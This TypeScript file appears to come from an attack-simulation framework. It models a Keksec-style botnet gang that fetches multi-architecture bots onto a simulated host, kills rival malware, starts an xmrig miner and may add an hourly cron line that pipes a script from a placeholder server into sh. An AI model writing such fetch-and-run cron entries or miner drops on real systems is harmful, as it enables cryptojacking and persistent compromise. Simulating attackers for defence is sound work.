import type { GangModel } from '../../gangs/gang.ts'
import { killByName, killRest } from '../../gangs/steps/evict.ts'
import { dropMiner } from '../../gangs/steps/settle-in.ts'
import { XMRIG_AGENT } from '../../network/cryptonote.ts'
import { GUESSING_CLIENT } from '../../network/ssh-bytes.ts'
import { MINUTE_MS } from '../../schedule.ts'
import { drawnPool, someOf } from './draw.ts'

const ARCHITECTURES = ['x86', 'x86_64', 'arm7', 'mips', 'mpsl', 'i586'] as const
const RIVALS = [
  'mirai',
  'gafgyt',
  'kaiten',
  'tsunami',
  'xmrig',
  'sora',
  'dvrHelper',
  'kinsing',
  'kdevtmpfsi',
  'masscan',
]

/** After Keksec: a bot for anything that runs Linux, rented out for floods; mining is a side job, and access is for sale. */
export const botHerders: GangModel = {
  name: 'bot-herders',
  family: 'Kek',
  form({ random, places, skill }) {
    const name = random.text(random.integer(4, 8), 'abcdefghijklmnopqrstuvwxyz')
    const folder = random.pick(['/tmp', '/var/run', '/dev/shm', '/var/tmp'])
    const wallet = places.wallet()
    const ip = places.server()
    return {
      traits: {
        wallets: [wallet],
        pool: drawnPool({ random, places, skill }, [3333, 443, 5555, 10_034]),
        login: () => ({ login: wallet, pass: random.pick(['x', 'kek', name]) }),
        agent: XMRIG_AGENT,
        miner: {
          path: `${folder}/.${name}/xmrig`,
          comm: 'xmrig',
          args: (login) => ['--donate-level', '1', '-u', login, '-p', 'x', '-B'],
          cpuShare: random.between(0.4, 0.8),
          knownAs: [name],
        },
        sources: [places.source(), places.source(), places.source(), places.source()],
        client: GUESSING_CLIENT,
        download: { ip, name: null, paths: [`/${name}.sh`, `/bins/${name}.x86_64`] },
        control: {
          ip,
          name: null,
          port: random.pick([48_101, 8888, 4443, 6667]),
          everyMs: random.integer(2, 8) * MINUTE_MS,
        },
        key: null,
        waysIn: ['ssh-password', 'web-exploit'],
        spreads: 0,
        sells: 0.5,
        returnsAfterMs: random.chance(0.6) ? random.integer(60, 360) * MINUTE_MS : null,
      },
      *occupy(foothold) {
        const order = foothold.random
        yield* foothold.hands.builtin(`cd ${folder}`)
        const bot = `${folder}/${name}`
        for (const architecture of someOf(order, ARCHITECTURES, 0.6)) {
          if (
            !(yield* foothold.fetch(`/bins/${name}.${architecture}`, `${bot}.${architecture}`, {
              what: 'bot',
            }))
          )
            break
          yield* foothold.changeMode(`${bot}.${architecture}`, 0o777)
          yield* foothold.hands.run([`${bot}.${architecture}`, order.pick(['ssh', 'selfrep', 'web'])])
          foothold.remove(`${bot}.${architecture}`)
        }
        yield* killByName(foothold, someOf(order, RIVALS, 0.6))
        yield* killRest(foothold)
        if (!(yield* dropMiner(foothold, '/xmrig'))) return
        yield* foothold.startMiner()
        if (order.chance(0.5))
          yield* foothold.addCron(
            foothold.isRoot ? '/etc/cron.d/sysstat2' : `/var/spool/cron/crontabs/${foothold.hands.user.name}`,
            `@hourly curl -s http://${ip}/${name}.sh | sh`,
            60 * MINUTE_MS,
          )
      },
    }
  },
}
